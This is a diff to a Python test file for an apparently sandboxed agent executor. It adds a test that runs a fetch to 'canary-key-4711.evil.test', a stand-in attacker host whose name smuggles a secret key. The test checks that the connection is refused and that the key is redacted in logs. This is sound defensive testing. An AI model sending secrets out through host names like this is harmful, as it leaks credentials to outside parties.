@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import dataclasses
 import json
 import os
 import shutil
@@ -530,3 +531,17 @@ def _processes_of(folder: Path) -> list[str]:
             if str(folder) in line and process.pid != os.getpid() and "choose_sandbox" not in line:
                 found.append(line)
     return found
+
+
+@pytest.mark.parametrize("known", [True, False])
+async def test_a_key_in_the_name_of_a_refused_host_is_not_written_down(agent: Agent, known: bool) -> None:
+    key = "canary-key-4711"
+    spec = agent.spec((PYTHON, "-I", "-S", "-c", FETCH, f"http://{key}.evil.test/"), ("model.test",))
+    executor = agent.executor()
+    result = await executor.run(dataclasses.replace(spec, secrets={"KEY": key} if known else {}))
+    await executor.close()
+    name = "[redacted:KEY]" if known else key
+    assert result.refused == (f"{name}.evil.test:80",)
+    assert [name in sentence for _, _, sentence in agent.told] == [True]
+    assert any(key in text for _, *said in agent.told for text in said) is not known
+    assert (key in (spec.folder / "refused.json").read_text(encoding="utf-8")) is not known
